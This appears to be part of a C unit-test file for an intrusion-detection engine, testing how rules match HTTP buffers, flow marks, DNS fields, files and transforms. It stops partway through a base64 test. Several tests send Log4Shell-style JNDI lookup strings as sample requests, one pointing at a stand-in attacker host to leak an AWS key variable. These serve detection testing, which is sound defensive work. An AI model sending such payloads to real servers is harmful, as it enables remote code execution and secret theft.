/* Tests of rules at work: buffers, flow, results of look-ups. */
#include "sensor/base/bytes.h"
#include "sensor/base/sbuf.h"
#include "sensor/core/decoder.h"
#include "tests/unit/bench_detect.h"

#include <string.h>

/* --- ordinary rules --- */

#define ANY "alert http any any -> any any "

static void a_rule_looks_at_its_buffer_only(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; http.uri; content:\"/evil\"; sid:1;)\n" ANY
                        "(msg:\"m\"; http.user_agent; content:\"EVIL\"; nocase; sid:2;)\n" ANY
                        "(msg:\"m\"; http.user_agent; content:\"/evil\"; sid:3;)\n" ANY
                        "(msg:\"m\"; http.user_agent; content:!\"Mozilla\"; sid:4;)\n");
    request(&b, "GET /evil HTTP/1.1\r\nUser-Agent: so evil\r\n\r\n");
    EXPECT(&b, "buffers", {1, "http.uri", NULL}, {2, "http.user_agent", NULL},
           {4, "http.user_agent", NULL});
    CU_ASSERT_PTR_NULL(b.found[0]->jndi);
    bench_stop(&b);
}

static void a_rule_of_several_buffers_waits_for_all(void)
{
    struct bench b;
    bench_start(&b,
                ANY "(msg:\"m\"; http.method; content:\"POST\"; http.user_agent; content:\"bad\"; "
                    "http.request_body; content:\"pass\"; fast_pattern; sid:1;)\n" ANY
                    "(msg:\"m\"; http.method; content:\"GET\"; http.request_body; "
                    "content:\"pass\"; sid:2;)\n" ANY
                    "(msg:\"m\"; http.uri; content:\"/x\"; fast_pattern; http.request_body; "
                    "content:\"pass\"; sid:3;)\n");
    request(&b, "POST /x HTTP/1.1\r\nUser-Agent: bad\r\n\r\n");
    expect_nothing(&b, "not yet");
    body(&b, "user=a&pass=b", BODY_FORM);
    EXPECT(&b, "all", {1, "http.request_body", NULL}, {3, "http.uri", NULL});
    bench_stop(&b);
    bench_start(&b, ANY "(msg:\"m\"; http.method; content:\"POST\"; http.request_body; "
                        "content:\"pass\"; sid:1;)\n");
    body(&b, "user=a&pass=b", BODY_FORM);
    expect_nothing(&b, "the other way round");
    request(&b, "POST /x HTTP/1.1\r\n\r\n");
    EXPECT(&b, "the other way round", {1, "http.method", NULL});
    bench_stop(&b);
}

static void a_line_that_does_not_end_is_a_buffer_behind_a_quiet_head(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; http.user_agent; content:\"evil\"; sid:1;)\n");
    request(&b, "GET / HTTP/1.1\r\nHost: a\r\n");
    const struct region line = {.kind = REGION_BODY,
                                .field = FIELD_HTTP_USER_AGENT,
                                .bytes = SPAN("so evil and so on"),
                                .flags = REGION_FIRST};
    detect_region(b.detector, &b.tx, &line);
    const struct field start = {
        .id = FIELD_HTTP_USER_AGENT, .value = line.bytes, .flags = FIELD_TRUNCATED};
    detect_field(b.detector, &b.tx, &start);
    EXPECT(&b, "endless line", {1, "http.user_agent", NULL});
    bench_stop(&b);
}

static void a_rule_is_told_once_in_a_transaction(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; http.request_header; content:\"x\"; sid:1;)\n");
    request(&b, "GET / HTTP/1.1\r\nA: x\r\nB: x\r\n\r\n");
    EXPECT(&b, "once", {1, "http.request_header.a", NULL});
    tx_again(&b);
    request(&b, "GET / HTTP/1.1\r\nA: x\r\n\r\n");
    EXPECT(&b, "again", {1, "http.request_header.a", NULL});
    bench_stop(&b);
}

static void headers_are_seen_with_their_names(void)
{
    struct bench b;
    bench_start(&b,
                ANY "(msg:\"m\"; http.request_header; content:\"X-Key: a\"; startswith; "
                    "sid:1;)\n" ANY
                    "(msg:\"m\"; http.request_header; content:\"User-Agent|3a 20|curl\"; "
                    "sid:2;)\n" ANY
                    "(msg:\"m\"; http.header_names; content:\"|0d 0a|Host|0d 0a|X-Key|0d 0a|\"; "
                    "content:!\"Referer\"; sid:3;)\n" ANY
                    "(msg:\"m\"; http.header; content:\"Host: h|0d 0a|X-Key\"; sid:4;)\n");
    request(&b, "GET / HTTP/1.1\r\nHost: h\r\nX-Key: abc\r\nUser-Agent: curl/7\r\n\r\n");
    EXPECT(&b, "names", {1, "http.request_header.x-key", NULL}, {2, "http.user_agent", NULL},
           {4, "http.header", NULL}, {3, "http.header", NULL});
    bench_stop(&b);
}

static void headers_together_are_trimmed_and_without_cookies(void)
{
    struct bench b;
    bench_start(
        &b, ANY
        "(msg:\"m\"; http.header; content:\"Host|3a| h|0d 0a|X-Key|3a| a b c|0d 0a|\"; "
        "startswith; endswith; fast_pattern:0,4; sid:1;)\n" ANY
        "(msg:\"m\"; http.header; content:\"secret\"; sid:2;)\n" ANY
        "(msg:\"m\"; flow:to_server; http.header.raw; content:\"secret\"; sid:3;)\n" ANY
        "(msg:\"m\"; flow:to_server; content:\"secret\"; http_raw_header; sid:4;)\n" ANY
        "(msg:\"m\"; flow:to_server; http.header.raw; content:\"X-Key:   a b|20 20|\"; sid:5;)\n");
    request(&b,
            "GET / HTTP/1.1\r\nHost: h\r\nX-Key:   a b  \r\n c\r\nCookie: secret\r\n more\r\n\r\n");
    EXPECT(&b, "headers", {1, "http.header", NULL}, {5, "http.header", NULL},
           {3, "http.header", NULL}, {4, "http.header", NULL});
    bench_stop(&b);
}

static void a_rule_without_a_buffer_sees_all_bytes(void)
{
    struct bench b;
    bench_start(&b, "alert tcp any any -> any any (msg:\"m\"; content:\"GET /a\"; startswith; "
                    "content:\"X: 1\"; distance:0; sid:1;)\n"
                    "alert tcp any any -> any any (msg:\"m\"; content:\"in the body\"; sid:2;)\n"
                    "alert udp any any -> any any (msg:\"m\"; content:\"in the body\"; sid:3;)\n"
                    "alert smtp any any -> any any (msg:\"m\"; content:\"in the body\"; sid:4;)\n");
    request(&b, "GET /a HTTP/1.1\r\nX: 1\r\n\r\n");
    body_piece(&b, SPAN("text in the"), REGION_FIRST, BODY_TEXT);
    body_piece(&b, SPAN(" body"), REGION_LAST, BODY_UNKNOWN);
    EXPECT(&b, "payload", {1, "http.header", NULL}, {2, "http.request_body", NULL});
    bench_stop(&b);
}

static void a_body_rule_sees_its_window(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; file.data; content:\"MZ\"; startswith; content:\"PE|00|\"; "
                        "distance:0; sid:1;)\n" ANY
                        "(msg:\"m\"; file.data; content:\"the end\"; endswith; sid:2;)\n");
    struct sbuf text = sbuf_with_cap(1 << 20);
    sbuf_add(&text, SPAN("MZ........PE\0"));
    add_lines(&text, 300000);
    sbuf_add_str(&text, "the end of the end");
    for (size_t at = 0; at < text.len; at += 1000) {
        const struct region r = {.kind = REGION_BODY,
                                 .field = FIELD_FILE_DATA,
                                 .bytes = span_sub(sbuf_span(&text), at, 1000),
                                 .flags = (at == 0 ? REGION_FIRST : 0) |
                                          (at + 1000 >= text.len ? (unsigned)REGION_LAST : 0)};
        detect_region(b.detector, &b.tx, &r);
    }
    EXPECT(&b, "window", {1, "file.data", NULL}, {2, "file.data", NULL});
    bench_stop(&b);
    sbuf_free(&text);
}

static void the_body_of_a_request_is_a_file_too(void)
{
    static const char rules[] =
        ANY "(msg:\"m\"; flow:to_server; file.data; content:\"<?php\"; startswith; sid:1;)\n" ANY
            "(msg:\"m\"; flow:to_client; file.data; content:\"<?php\"; sid:2;)\n";
    struct bench b;
    bench_start(&b, rules);
    body(&b, "<?php echo 1;", BODY_TEXT);
    EXPECT(&b, "request", {1, "http.request_body", NULL});
    bench_stop(&b);
    bench_start(&b, rules);
    body(&b, "echo <?php", BODY_TEXT);
    expect_nothing(&b, "elsewhere");
    bench_stop(&b);
}

/* --- what is not there --- */

static void what_a_transaction_has_none_of_is_known_at_its_end(void)
{
    struct bench b;
    const char *rules =
        ANY "(msg:\"m\"; http.referer; absent; sid:1;)\n" ANY
            "(msg:\"m\"; http.uri; content:\"/x\"; http.referer; absent; sid:2;)\n" ANY
            "(msg:\"m\"; http.uri; content:\"/x\"; http.referer; absent:or_else; "
            "content:!\"good\"; sid:3;)\n" ANY
            "(msg:\"m\"; http.uri; content:\"/y\"; http.referer; absent; sid:4;)\n" ANY
            "(msg:\"m\"; flow:to_client; http.server; absent; sid:5;)\n";
    bench_start(&b, rules);
    b.tx.flags = TX_REQUEST_SEEN;
    request(&b, "GET /x HTTP/1.1\r\nHost: a\r\n\r\n");
    expect_nothing(&b, "a Referer may come");
    tx_stop(&b);
    EXPECT(&b, "without", {3, "http.uri", NULL}, {2, "http.uri", NULL}, {1, "http.referer", NULL});
    tx_again(&b);
    b.tx.flags = TX_REQUEST_SEEN;
    request(&b, "GET /x HTTP/1.1\r\nReferer: bad\r\n\r\n");
    tx_stop(&b);
    EXPECT(&b, "or else", {3, "http.uri", NULL});
    tx_again(&b);
    b.tx.flags = TX_REQUEST_SEEN;
    request(&b, "GET /x HTTP/1.1\r\nReferer: good\r\n\r\n");
    tx_stop(&b);
    expect_nothing(&b, "with");
    tx_again(&b);
    b.tx.flags = TX_REQUEST_SEEN | TX_CUT;
    request(&b, "GET /x HTTP/1.1\r\nHost: a\r\n\r\n");
    tx_stop(&b);
    expect_nothing(&b, "what was not seen may have been there");
    tx_again(&b);
    tx_stop(&b);
    expect_nothing(&b, "there was no message");
    bench_stop(&b);
}

static void to_the_other_side(struct bench *b, enum field_id id, const char *value)
{
    const struct field f = {.id = id, .value = span_str(value), .dir = TO_CLIENT};
    detect_field(b->detector, &b->tx, &f);
}

static void a_rule_without_a_direction_is_about_one_at_a_time(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; http.cookie; content:\"a=1\"; sid:1;)\n" ANY
                        "(msg:\"m\"; http.cookie; content:\"a=1\"; http.content_type; "
                        "content:\"text\"; sid:2;)\n" ANY
                        "(msg:\"m\"; http.method; content:\"GET\"; http.cookie; "
                        "content:\"b=2\"; sid:3;)\n" ANY "(msg:\"m\"; http.cookie; absent; "
                        "sid:4;)\n" ANY "(msg:\"m\"; http.referer; absent; sid:5;)\n"
                        "alert http any any => any any (msg:\"m\"; http.method; content:\"GET\"; "
                        "http.cookie; content:\"b=2\"; sid:6;)\n");
    b.tx.flags = TX_REQUEST_SEEN | TX_RESPONSE_SEEN;
    request(&b, "GET /x HTTP/1.1\r\nCookie: a=1\r\nReferer: r\r\n\r\n");
    to_the_other_side(&b, FIELD_HTTP_CONTENT_TYPE, "text/html");
    EXPECT(&b, "nothing of both", {1, "http.cookie", NULL});
    to_the_other_side(&b, FIELD_HTTP_COOKIE, "a=1; b=2");
    EXPECT(&b, "the answer", {1, "http.cookie", NULL}, {2, "http.content_type", NULL},
           {1, "http.cookie", NULL}, {6, "http.method", NULL});
    tx_again(&b);
    b.tx.flags = TX_REQUEST_SEEN | TX_RESPONSE_SEEN;
    request(&b, "GET /x HTTP/1.1\r\nCookie: c=1\r\nReferer: r\r\n\r\n");
    tx_stop(&b);
    EXPECT(&b, "absent from the answer", {4, "http.cookie", NULL});
    CU_ASSERT_EQUAL(b.found[0]->dir, TO_CLIENT);
    bench_stop(&b);
}

/* --- numbers and names that have keywords of their own --- */

#define DNS "alert dns any any -> any any "

static const struct decoder dns = {.name = "dns"};

static void numbers_of_dns_messages_are_asked_by_name(void)
{
    struct bench b;
    bench_start(&b, DNS
                "(msg:\"m\"; dns.opcode:4; sid:1;)\n" DNS "(msg:\"m\"; dns.opcode:!4; sid:2;)\n" DNS
                "(msg:\"m\"; dns.opcode:3-5; dns.rcode:0x3; sid:3;)\n" DNS
                "(msg:\"m\"; dns.opcode:4-6; sid:4;)\n" DNS
                "(msg:\"m\"; dns.rcode:!3; sid:5;)\n" DNS "(msg:\"m\"; dns.rcode:>2; sid:6;)\n" DNS
                "(msg:\"m\"; dns.rrtype:16; sid:7;)\n" DNS
                "(msg:\"m\"; dns.rrtype:!16; sid:8;)\n" DNS "(msg:\"m\"; dns.rrtype:41; sid:9;)\n");
    b.tx.decoder = &dns;
    field_of(&b, FIELD_DNS_HEADER, "", SPAN("\x12\x34\xa5\x83\0\1\0\0\0\0\0\0"));
    EXPECT(&b, "header", {1, "dns.header", NULL}, {3, "dns.header", NULL}, {6, "dns.header", NULL});
    tx_again(&b);
    b.tx.decoder = &dns;
    field_of(&b, FIELD_DNS_RECORD, "", SPAN("\0\x10\0\1"));
    field_of(&b, FIELD_DNS_RECORD, "", SPAN("\0\x29\x10\0\0\0\0\0")); /* EDNS */
    EXPECT(&b, "records", {7, "dns.record", NULL}, {9, "dns.record", NULL});
    tx_again(&b);
    b.tx.decoder = &dns;
    field_of(&b, FIELD_DNS_RECORD, "", SPAN("\0\x01\0\1"));
    EXPECT(&b, "another", {8, "dns.record", NULL});
    bench_stop(&b);
}

static void file_piece(struct bench *b, const char *text, unsigned flags)
{
    const struct region r = {
        .kind = REGION_BODY, .field = FIELD_FILE_DATA, .bytes = span_str(text), .flags = flags};
    detect_region(b->detector, &b->tx, &r);
}

static void files_are_asked_for_names_and_sizes(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; filename:\"Report\"; sid:1;)\n" ANY
                        "(msg:\"m\"; fileext:\"jar\"; filesize:10; sid:2;)\n" ANY
                        "(msg:\"m\"; fileext:\"ja\"; sid:3;)\n" ANY
                        "(msg:\"m\"; filesize:>4; file.data; content:\"abc\"; sid:4;)\n" ANY
                        "(msg:\"m\"; filesize:<10; fileext:\"jar\"; sid:5;)\n" ANY
                        "(msg:\"m\"; filesize:!8<>12; fileext:\"jar\"; sid:6;)\n" ANY
                        "(msg:\"m\"; filename:!\"x\"; sid:7;)\n" ANY
                        "(msg:\"m\"; filesize:1kb; fileext:\"jar\"; sid:8;)\n");
    field_of(&b, FIELD_FILE_NAME, "", SPAN("my-REPORT.JAR"));
    file_piece(&b, "abcde", REGION_FIRST);
    file_piece(&b, "fghij", REGION_LAST);
    EXPECT(&b, "file", {1, "file.name", NULL}, {7, "file.name", NULL}, {2, "file.name", NULL},
           {4, "file.data", NULL});
    bench_stop(&b);
}

static void addresses_ports_and_flow_are_asked(void)
{
    struct bench b;
#define WITH(header, flow, sid)                                                                    \
    "alert http " header " (msg:\"m\"; " flow " http.uri; content:\"/x\"; sid:" sid ";)\n"
    bench_start(&b, WITH("192.0.2.0/24 any -> any 8080", "",
                         "1") WITH("any any -> 192.0.2.0/24 any", "", "2")
                        WITH("any 8080 <> any any", "", "3") WITH("any any -> any !8080", "", "4")
                            WITH("any any -> any any", "flow:established,to_server;", "6")
                                WITH("any any -> any any", "flow:not_established;", "7"));
    request(&b, "GET /x HTTP/1.1\r\n\r\n");
    EXPECT(&b, "header", {1, "http.uri", NULL}, {3, "http.uri", NULL}, {6, "http.uri", NULL});
    bench_stop(&b);
#undef WITH
}

static void rules_leave_marks_for_one_another(void)
{
    struct bench b;
    bench_start(&b, ANY
                "(msg:\"asks first\"; http.user_agent; content:\"tool\"; "
                "flowbits:isset,other|login; sid:1;)\n" ANY
                "(msg:\"marks\"; http.uri; content:\"/login\"; flowbits:set,login; noalert; "
                "sid:2;)\n" ANY "(msg:\"unmarked\"; http.uri; content:\"/next\"; "
                "flowbits:isnotset,login; sid:3;)\n" ANY
                "(msg:\"ends\"; http.uri; content:\"/logout\"; flowbits:unset,login; sid:4;)\n");
    request(&b, "GET /next HTTP/1.1\r\nUser-Agent: tool\r\n\r\n");
    EXPECT(&b, "no mark", {3, "http.uri", NULL});
    tx_again(&b);
    request(&b, "GET /login HTTP/1.1\r\nUser-Agent: tool\r\n\r\n");
    EXPECT(&b, "in one message", {1, "http.user_agent", NULL});
    tx_again(&b);
    request(&b, "GET /next HTTP/1.1\r\nUser-Agent: tool\r\n\r\n");
    EXPECT(&b, "in the next one", {1, "http.user_agent", NULL});
    tx_again(&b);
    request(&b, "GET /logout HTTP/1.1\r\nUser-Agent: x\r\n\r\n");
    tx_again(&b);
    request(&b, "GET /next HTTP/1.1\r\nUser-Agent: tool\r\n\r\n");
    EXPECT(&b, "taken away", {3, "http.uri", NULL});
    bench_stop(&b);
}

static void marks_outlive_a_flow_with_its_addresses(void)
{
    struct bench b;
#define WITH(content, mark, sid)                                                                   \
    ANY "(msg:\"m\"; http.uri; content:\"" content "\"; xbits:" mark "; sid:" sid ";)\n"
    bench_start(&b, WITH("/set", "set,a,track ip_src,expire 10", "1")
                        WITH("/set", "set, b, track ip_pair; noalert", "2")
                            WITH("/ask", "isset,a,track ip_src", "3")
                                WITH("/ask", "isset,a,track ip_dst", "4")
                                    WITH("/ask", "isset,b,track ip_pair", "5")
                                        WITH("/ask", "isnotset,a,track ip_src", "6")
                                            WITH("/end", "unset,b,track ip_pair", "7"));
    b.conn.clock_us = 1000000;
    request(&b, "GET /ask HTTP/1.1\r\n\r\n");
    request(&b, "GET /set HTTP/1.1\r\n\r\n");
    EXPECT(&b, "not seen in its packet", {1, "http.uri", NULL}, {6, "http.uri", NULL});
    tx_again(&b);
    b.conn.clock_us += 9999999;
    request(&b, "GET /ask HTTP/1.1\r\n\r\n");
    EXPECT(&b, "in time", {3, "http.uri", NULL}, {5, "http.uri", NULL});
    tx_again(&b);
    b.conn.clock_us += 1;
    request(&b, "GET /ask HTTP/1.1\r\n\r\n");
    EXPECT(&b, "too late for one", {6, "http.uri", NULL}, {5, "http.uri", NULL});
    tx_again(&b);
    const struct addr client = b.conn.addr[TO_SERVER];
    b.conn.addr[TO_SERVER] = b.conn.addr[TO_CLIENT];
    b.conn.addr[TO_CLIENT] = client;
    request(&b, "GET /set HTTP/1.1\r\n\r\n");
    tx_again(&b);
    b.conn.addr[TO_CLIENT] = b.conn.addr[TO_SERVER];
    b.conn.addr[TO_SERVER] = client;
    request(&b, "GET /end HTTP/1.1\r\n\r\n");
    tx_again(&b);
    request(&b, "GET /ask HTTP/1.1\r\n\r\n");
    EXPECT(&b, "the other's", {4, "http.uri", NULL}, {6, "http.uri", NULL});
    bench_stop(&b);
#undef WITH
}

static void hostbits_are_marks_of_an_address(void)
{
    struct bench b;
    bench_start(&b,
                ANY "(msg:\"m\"; http.uri; content:\"/set\"; hostbits:set,a; noalert; sid:1;)\n" ANY
                    "(msg:\"m\"; http.uri; content:\"/ask\"; hostbits:isset,a,src; sid:2;)\n" ANY
                    "(msg:\"m\"; http.uri; content:\"/ask\"; hostbits:isset,a,dst; sid:3;)\n" ANY
                    "(msg:\"m\"; http.uri; content:\"/ask\"; hostbits:isnotset,a; sid:4;)\n");
    b.conn.clock_us = 1000000;
    request(&b, "GET /set HTTP/1.1\r\n\r\n");
    tx_again(&b);
    b.conn.clock_us += 299000000;
    request(&b, "GET /ask HTTP/1.1\r\n\r\n");
    EXPECT(&b, "of the source, in time", {2, "http.uri", NULL});
    tx_again(&b);
    b.conn.clock_us += 1000000;
    request(&b, "GET /ask HTTP/1.1\r\n\r\n");
    EXPECT(&b, "too late", {4, "http.uri", NULL});
    bench_stop(&b);
}

static void more_marks_than_a_flow_bears_are_counted(void)
{
    struct bench b;
    struct sbuf rules = sbuf_with_cap(1 << 16);
    for (int i = 0; i < CONN_FLOWBITS_MAX + 2; i++) {
        sbuf_add_format(&rules,
                        ANY "(msg:\"m\"; http.uri; content:\"/x\"; flowbits:set,b%d; noalert; "
                            "sid:%d;)\n",
                        i, i + 1);
    }
    sbuf_add_byte(&rules, 0);
    bench_start(&b, (const char *)rules.data);
    request(&b, "GET /x HTTP/1.1\r\n\r\n");
    detect_settle(b.detector);
    CU_ASSERT_EQUAL(conn_extra(&b.conn)->n_flowbits, CONN_FLOWBITS_MAX);
    CU_ASSERT_EQUAL(stats_get(&b.stats, STAT_FLOWBITS_LOST), 2);
    expect_nothing(&b, "noalert");
    bench_stop(&b);
    sbuf_free(&rules);
}

static void sizes_of_the_flow_are_asked(void)
{
    struct bench b;
#define WITH(size, sid)                                                                            \
    "alert tcp any any -> any any (msg:\"m\"; content:\"abc\"; " size " sid:" sid ";)\n"
    bench_start(&b, WITH("stream_size:client,<,100;", "1") WITH("stream_size:client,>,99;", "2")
                        WITH("stream_size:server,=,7;", "3") WITH("stream_size:both,<,101;", "4")
                            WITH("stream_size:either,>,50;", "5") WITH("dsize:10;", "6")
                                WITH("dsize:5<>10;", "7") WITH("dsize:!9;", "8"));
    b.conn.stream_bytes[TO_SERVER] = 100;
    b.conn.stream_bytes[TO_CLIENT] = 7;
    b.conn.piece_bytes = 10;
    head(&b, SPAN("xxabc"));
    EXPECT(&b, "sizes", {2, "http.header", NULL}, {3, "http.header", NULL},
           {4, "http.header", NULL}, {5, "http.header", NULL}, {6, "http.header", NULL},
           {8, "http.header", NULL});
    bench_stop(&b);
#undef WITH
}

static void rules_without_a_test_are_asked_of_the_flow(void)
{
    struct bench b;
#define WITH(header, options, sid) "alert tcp " header " (msg:\"m\"; " options " sid:" sid ";)\n"
    bench_start(
        &b,
        WITH("any any -> any any", "dsize:>9;", "1") WITH("any any -> any any", "dsize:<9;", "2")
            WITH("192.0.2.4 any -> any any", "", "3") WITH("198.51.100.9 any -> any any", "", "4")
                WITH("any any -> any any", "flowbits:isset,late;", "5")
                    WITH("any any -> any any", "flow:to_client; flowbits:isset,late;", "6")
                        WITH("any any -> any any", "content:\"abc\"; flowbits:set,late;", "7")
                            WITH("any any -> any any", "flowbits:set,other; noalert;", "8")
                                WITH("any any -> any any", "flowbits:isset,other;", "9"));
    b.conn.piece_bytes = 10;
    head(&b, SPAN("xxabc"));
    b.conn.piece_bytes = 8;
    head(&b, SPAN("abc"));
    EXPECT(&b, "each once, when it holds", {1, "http.header", NULL}, {3, "http.header", NULL},
           {2, "http.header", NULL}, {7, "http.header", NULL}, {5, "http.header", NULL},
           {9, "http.header", NULL});
    bench_stop(&b);
#undef WITH
}

static void an_arrow_of_two_lines_is_both_sides_of_a_transaction(void)
{
    struct bench b;
#define WITH(header, sid)                                                                          \
    "alert http " header " (msg:\"m\"; http.uri; content:\"/x\"; http.stat_code; "                 \
    "content:\"200\"; sid:" sid ";)\n"
    bench_start(&b, WITH("192.0.2.4 any => any any", "1") WITH("any any => 192.0.2.4 any", "2"));
    request(&b, "GET /x HTTP/1.1\r\n\r\n");
    const struct field code = {.id = FIELD_HTTP_STAT_CODE, .value = SPAN("200"), .dir = TO_CLIENT};
    detect_field(b.detector, &b.tx, &code);
    EXPECT(&b, "both", {1, "http.stat_code", NULL});
    bench_stop(&b);
#undef WITH
}

static void a_pass_rule_silences_its_packet_and_what_follows(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; http.uri; content:\"/x\"; sid:1;)\n"
                        "pass http any any -> any any (msg:\"m\"; http.uri; content:\"/x\"; "
                        "sid:2;)\n");
    request(&b, "GET /x HTTP/1.1\r\n\r\n");
    expect_nothing(&b, "passed");
    bench_stop(&b);
    /* Also where its content ends behind that of the rule it silences. */
    static const char later[] =
        ANY "(msg:\"m\"; http.uri; content:\"/x\"; sid:1;)\n"
            "pass http any any -> any any (msg:\"m\"; http.uri; content:\"/x/yz\"; sid:2;)\n";
    bench_start(&b, later);
    request(&b, "GET /x/yz HTTP/1.1\r\n\r\n");
    expect_nothing(&b, "passed by a later content");
    bench_stop(&b);
    bench_start(&b, later);
    request(&b, "GET /x/y HTTP/1.1\r\n\r\n");
    EXPECT(&b, "not passed", {1, "http.uri", NULL});
    bench_stop(&b);
    static const char behind[] =
        ANY "(msg:\"m\"; http.uri; content:\"/x\"; sid:1;)\n" ANY
            "(msg:\"m\"; jndi.class:attack; sid:2;)\n"
            "pass http any any -> any any (msg:\"m\"; http.request_body; content:\"ours\"; "
            "sid:3;)\n";
    bench_start(&b, behind); /* a later buffer of the same packet, and the next transaction */
    request(&b, "POST /x?${jndi:ldap://a.example/a} HTTP/1.1\r\n\r\n");
    body(&b, "it is ours", BODY_TEXT);
    expect_nothing(&b, "passed by a later buffer");
    tx_again(&b);
    request(&b, "POST /x HTTP/1.1\r\n\r\n");
    expect_nothing(&b, "passed before");
    bench_stop(&b);
    bench_start(&b, behind); /* a later packet */
    request(&b, "POST /x?${jndi:ldap://a.example/a} HTTP/1.1\r\n\r\n");
    detect_settle(b.detector);
    body(&b, "it is ours", BODY_TEXT);
    EXPECT(&b, "too late", {2, "http.uri_param", NULL}, {1, "http.uri", NULL});
    bench_stop(&b);
    bench_start(&b, behind); /* a reading that was not meant silences itself alone */
    b.tx.flags = TX_ALTERNATE;
    request(&b, "POST /x HTTP/1.1\r\n\r\n");
    body(&b, "it is ours", BODY_TEXT);
    expect_nothing(&b, "itself");
    tx_again(&b);
    request(&b, "POST /x HTTP/1.1\r\n\r\n");
    EXPECT(&b, "not the flow", {1, "http.uri", NULL});
    bench_stop(&b);
    bench_start(&b, ANY "(msg:\"m\"; jndi.class:attack; sid:1;)\n"
                        "pass http any any -> any any (msg:\"scanner of our own\"; jndi.callback; "
                        "content:\"scan.example:389\"; startswith; endswith; sid:2;)\n");
    request(&b, "GET /${jndi:ldap://scan.example/a} HTTP/1.1\r\n"
                "User-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n");
    EXPECT(&b, "one passed", {1, "http.user_agent", "jndi:ldap://evil.example/a"});
    bench_stop(&b);
}

static void rules_ask_what_a_lookup_came_to(void)
{
    struct bench b;
    bench_start(&b,
                ANY "(msg:\"m\"; jndi.lookup; content:\"jndi:ldap:\"; startswith; sid:1;)\n" ANY
                    "(msg:\"m\"; jndi.callback; content:\".example:1389\"; endswith; sid:2;)\n" ANY
                    "(msg:\"m\"; jndi.variable; content:\"env:AWS_\"; startswith; sid:3;)\n" ANY
                    "(msg:\"m\"; jndi.scheme:!ldap; sid:4;)\n" ANY
                    "(msg:\"m\"; http.method; content:\"GET\"; jndi.class:attack; sid:5;)\n" ANY
                    "(msg:\"m\"; http.method; content:\"POST\"; jndi.class:attack; sid:6;)\n");
    request(&b, "GET /?q=${jndi:ldap://evil.example:1389/${env:AWS_KEY}} HTTP/1.1\r\n\r\n");
    EXPECT(&b, "results", {1, "http.uri_param.q", NULL}, {2, "http.uri_param.q", NULL},
           {3, "http.uri_param.q", NULL}, {5, "http.uri_param.q", NULL});
    bench_stop(&b);
}

static void rules_see_one_dialect(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; jndi.class:attack; sid:1;)\n" ANY
                        "(msg:\"m\"; jndi.dialect:log4j; jndi.class:attack; sid:2;)\n" ANY
                        "(msg:\"m\"; jndi.dialect:commons-text; sid:3;)\n" ANY
                        "(msg:\"m\"; jndi.lookup; content:\"dns:\"; sid:4;)\n" ANY
                        "(msg:\"m\"; jndi.dialect:commons-text; jndi.lookup; content:\"dns:x\"; "
                        "startswith; sid:5;)\n");
    request(&b, "GET /?q=${dns:x} HTTP/1.1\r\nUser-Agent: ${jndi:ldap://y/a}\r\n\r\n");
    EXPECT(&b, "dialects", {3, "http.uri_param.q", "dns:x"}, {5, "http.uri_param.q", "dns:x"},
           {1, "http.user_agent", "jndi:ldap://y/a"}, {2, "http.user_agent", "jndi:ldap://y/a"});
    bench_stop(&b);
}

static void transforms_change_what_is_looked_at(void)
{
    struct bench b;
    bench_start(&b,
                ANY "(msg:\"m\"; http.host; dotprefix; content:\".evil.example\"; endswith; "
                    "sid:1;)\n" ANY
                    "(msg:\"m\"; http.uri; to_lowercase; content:\"/abc\"; sid:2;)\n" ANY
                    "(msg:\"m\"; http.user_agent; strip_whitespace; content:\"ab\"; sid:3;)\n" ANY
                    "(msg:\"m\"; http.referer; from_base64; content:\"/secret\"; sid:4;)\n" ANY
                    "(msg:\"m\"; http.request_header; header_lowercase; "
                    "content:\"x-key: Abc\"; startswith; sid:5;)\n" ANY
                    "(msg:\"m\"; http_accept; strip_pseudo_headers; content:\"*/*\"; sid:6;)\n");
    request(&b, "GET /ABC HTTP/1.1\r\nUser-Agent: a \t b\r\nX-KEY: Abc\r\n\r\n");
    field_of(&b, FIELD_HTTP_REFERER, "", SPAN("aGVyZS9zZWNyZXQ"));
    field_of(&b, FIELD_HTTP_ACCEPT, "", SPAN("*/*"));
    field_of(&b, FIELD_HTTP_HOST, "", SPAN("evil.example"));
    EXPECT(&b, "transforms", {2, "http.uri", NULL}, {3, "http.user_agent", NULL},
           {5, "http.request_header.x-key", NULL}, {4, "http.referer", NULL},
           {6, "http.accept", NULL}, {1, "http.host", NULL});
    bench_stop(&b);
}

/* The sums of "abc" as RFC 1321 and FIPS 180-4 have them. */
static void sums_and_keys_are_bytes(void)
{
    struct bench b;
#define AGENT(how, content, size)                                                                  \
    ANY "(msg:\"m\"; http.user_agent; " how "; content:\"" content "\"; startswith; bsize:" size   \
        "; sid:" size ";)\n"
    bench_start(&b, AGENT("to_md5", "|90 01 50 98 3c d2 4f b0|", "16")
                        AGENT("to_sha1", "|a9 99 3e 36 47 06 81 6a|", "20")
                            AGENT("to_sha256", "|ba 78 16 bf 8f 01 cf ea|", "32")
                                AGENT("xor:\"2001\"", "AcC", "3"));
#undef AGENT
    request(&b, "GET / HTTP/1.1\r\nUser-Agent: abc\r\n\r\n");
    EXPECT(&b, "sums", {16, "http.user_agent", NULL}, {20, "http.user_agent", NULL},
           {32, "http.user_agent", NULL}, {3, "http.user_agent", NULL});
    bench_stop(&b);
}

static void base64_is_decoded_as_the_rule_says(void)
{
    struct bench b;
#define WITH(words, text, sid)                                                                     \
    ANY "(msg:\"m\"; http.referer; from_base64" words "; content:\"" text "\"; bsize:" sid         \
        "; sid:" sid ";)\n"
    /* The number is the length of what is decoded of "!!YWJj*ZGVmZ2g=" and what stands before. */
    bench_start(&b, WITH(":offset 2", "abc", "3") WITH(":offset 2, mode rfc2045", "abcdefgh", "8")
                        WITH(": mode: rfc2045 ,bytes 9, offset 2", "abcdef", "6")
                            WITH(":offset 7,mode strict", "defgh", "5")
                                WITH(":mode strict, offset 2", "abc", "9"));
    field_of(&b, FIELD_HTTP_REFERER, "", SPAN("!!YWJj*ZGVmZ2g="));
    EXPECT(&b, "modes", {3, "http.referer", NULL}, {8, "http.referer", NULL},
           {6, "http.referer", NULL}, {5, "http.referer", NULL});
